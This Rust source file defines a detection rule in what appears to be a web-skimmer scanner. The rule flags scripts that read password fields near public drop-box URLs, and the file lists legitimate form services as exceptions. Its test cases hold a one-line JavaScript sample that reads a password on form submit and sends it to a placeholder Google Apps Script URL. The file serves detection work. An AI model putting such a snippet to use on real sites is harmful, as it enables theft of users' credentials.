//! `secret-near-drop-box`.

use super::secret_to_drop_box::has_other_than_tables;
use crate::facts::Atom;
use crate::signals::answered::is_answer_read;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-near-drop-box",
    description: "The script reads a password or code and contains the URL of a public drop box.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::SecretField]),
        one(&[Atom::FieldValue, Atom::FormContents, Atom::FormTarget]),
        one(&[Atom::DropBox]),
    ],
    within: 800,
    only_if: Some(is_no_form_service),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "const u='https://script.google.com/macros/s/a/exec';f.addEventListener('submit',e=>{const p=document.getElementById('password').value;send(u,p)})",
        ],
        without: &[
            "const u='https://script.google.com/macros/s/a/exec';fetch(u,{method:'POST',body:new FormData(f)})",
            r#"contact.onsubmit=()=>fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(contact)});login.onsubmit=()=>signIn({mail:login.mail.value,password:login.password.value})"#,
        ],
    },
};

/// Whether it is not a service that mails what contact forms hold: a page may have such a form and another one to sign in.
fn is_no_form_service(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    if !has_other_than_tables(evidence) && !is_sent_unanswered(near) {
        return false;
    }
    // A form that the script makes for it holds what was typed into another one.
    let is_target = |at: usize| near.has_fact_in(at.saturating_sub(30)..at + 30, &[Atom::FormTarget]);
    near.places().any(|at| {
        let text = near.word(at).to_ascii_lowercase();
        near.has_fact_in(at..at + 1, &[Atom::DropBox])
            && (!FORM_SERVICES.iter().any(|host| text.contains(host)) || is_target(at))
    })
}

/// Whether a request to a box has no answer that is read, or no request to one is found.
fn is_sent_unanswered(near: Near<'_>) -> bool {
    let boxes = near.places().filter(|at| near.has_fact_in(*at..at + 1, &[Atom::DropBox]));
    boxes.into_iter().any(|at| {
        let mut calls = near.calls_taking(at);
        calls.sort_unstable();
        calls.dedup();
        calls.is_empty() || calls.into_iter().any(|call| !is_answer_read(near, call))
    })
}

/// Services for the forms of sites.
pub(super) const FORM_SERVICES: &[&str] = &[
    "formspree.io",
    "formsubmit.co",
    "formcarry.com",
    "getform.io",
    "submit-form.com",
    "web3forms.com",
    "formbold.com",
    "api.emailjs.com",
];
